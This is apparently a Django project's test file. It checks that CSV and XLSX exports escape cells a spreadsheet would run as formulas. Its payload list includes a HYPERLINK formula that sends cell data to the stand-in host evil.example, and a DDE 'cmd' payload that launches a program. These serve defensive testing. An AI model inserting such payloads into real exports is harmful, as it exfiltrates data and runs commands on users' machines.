"""Bar 22: CSV and XLSX exports neutralise cells a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from perspectives.accounts.models import Role
from perspectives.impact.exports.document import (
    FORMULA_PREFIXES,
    Document,
    Row,
    render_xlsx,
    safe_cell,
)

DANGEROUS = st.sampled_from(FORMULA_PREFIXES)
# Characters a worksheet can hold: openpyxl refuses most control characters (reported apart).
CHARACTERS = st.characters(
    blacklist_categories=("Cs",),
    blacklist_characters=[chr(c) for c in range(32) if chr(c) not in "\t\r\n"],
)
PLAIN = st.text(CHARACTERS, max_size=30)
TEXT = st.one_of(PLAIN, st.builds(lambda p, t: p + t, DANGEROUS, PLAIN))
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _is_neutral(text: str) -> bool:
    return not text.startswith(FORMULA_PREFIXES)


@given(st.one_of(st.text(), st.builds(lambda p, t: p + t, DANGEROUS, st.text())))
def test_safe_cell_prefixes_exactly_the_dangerous_texts(text):
    cell = safe_cell(text)
    assert _is_neutral(cell)
    # Control characters XLSX cannot hold are dropped first; what remains is judged.
    clean = ILLEGAL_CHARACTERS_RE.sub("", text)
    if clean.startswith(FORMULA_PREFIXES):
        assert cell == "'" + clean
    else:
        assert cell == clean


@settings(max_examples=40, deadline=None)
@given(
    title=st.text(st.characters(whitelist_categories=("L", "N")), max_size=20),
    labels=st.lists(TEXT, min_size=1, max_size=4),
    text_cell=TEXT,
    notes=st.lists(TEXT, max_size=2),
)
def test_no_xlsx_cell_is_a_formula_whatever_the_texts(title, labels, text_cell, notes):
    document = Document(
        title=title,
        subtitle=text_cell,
        date="2020-01-01",
        columns=[text_cell, "2020"],
        rows=[Row(label=label, cells=[text_cell]) for label in labels],
        notes_title=text_cell,
        notes=notes,
    )
    sheet = load_workbook(io.BytesIO(render_xlsx(document))).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert _is_neutral(cell.value), cell.value


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_funding_download_neutralises_a_funder_name_in_csv_and_xlsx(client_for, payload):
    from perspectives.funding.tests.factories import FunderFactory, GrantFactory

    GrantFactory(funder=FunderFactory(name=payload), year=2020, status="requested")
    client = client_for(Role.STAFF)
    url = reverse("impact:download", args=["funding"])
    response = client.get(url, {"years": "2020", "format": "csv"})
    assert response.status_code == 200
    cells = [
        cell
        for row in csv.reader(io.StringIO(response.content.decode(), newline=""))
        for cell in row
    ]
    assert "'" + payload in cells
    assert all(_is_neutral(cell) for cell in cells)
    response = client.get(url, {"years": "2020", "format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    assert all(_is_neutral(cell.value) for cell in values if isinstance(cell.value, str))


# The staff lists' exports (core.listing) -------------------------------------------------------


@settings(max_examples=40, deadline=None)
@given(header=st.lists(TEXT, min_size=1, max_size=3), rows=st.lists(st.lists(TEXT, max_size=3)))
def test_no_list_export_cell_is_a_formula_whatever_the_texts(header, rows):
    from perspectives.core.tabular import render_table_csv, render_table_xlsx

    text = render_table_csv(header=header, rows=rows)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert all(_is_neutral(cell) for cell in row)
    sheet = load_workbook(io.BytesIO(render_table_xlsx(header=header, rows=rows))).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert _is_neutral(cell.value), cell.value


def _list_with(payload):
    """(URL name, args) of each staff list, with one row holding `payload` in a text field."""
    from perspectives.activities.tests.factories import ActivityFactory, RegistrationFactory
    from perspectives.coaching.tests.factories import TrajectoryFactory
    from perspectives.funding.tests.factories import FunderFactory, GrantFactory
    from perspectives.people.tests.factories import OrganisationFactory, PersonFactory
    from perspectives.reach.newsletters.models import Campaign
    from perspectives.reach.tests.factories import NewsletterListFactory

    activity = ActivityFactory(title=payload)
    RegistrationFactory(activity=activity, person=PersonFactory(first_name=payload, last_name=""))
    OrganisationFactory(name=payload)
    TrajectoryFactory(coach_name=payload)
    GrantFactory(funder=FunderFactory(name=payload), note=payload)
    Campaign.objects.create(
        newsletter_list=NewsletterListFactory(), subject=payload, body_markdown="x"
    )
    return [
        ("activities:activity-list", []),
        ("activities:activity-detail", [activity.pk]),
        ("people:person-list", []),
        ("people:organisation-list", []),
        ("coaching:trajectory-list", []),
        ("funding:overview", []),
        ("reach:campaign-list", []),
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_every_staff_list_exports_a_formula_as_text_in_csv_and_xlsx(client_for, payload):
    client = client_for(Role.STAFF)
    for name, args in _list_with(payload):
        url = reverse(name, args=args)
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        cells = [
            cell
            for row in csv.reader(io.StringIO(response.content.decode(), newline=""))
            for cell in row
        ]
        assert "'" + payload in cells, url
        assert all(_is_neutral(cell) for cell in cells), url
        response = client.get(url, {"export": "xlsx"})
        values = [
            cell
            for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
            for cell in row
        ]
        assert all(cell.data_type != "f" for cell in values), url
        assert "'" + payload in [cell.value for cell in values], url
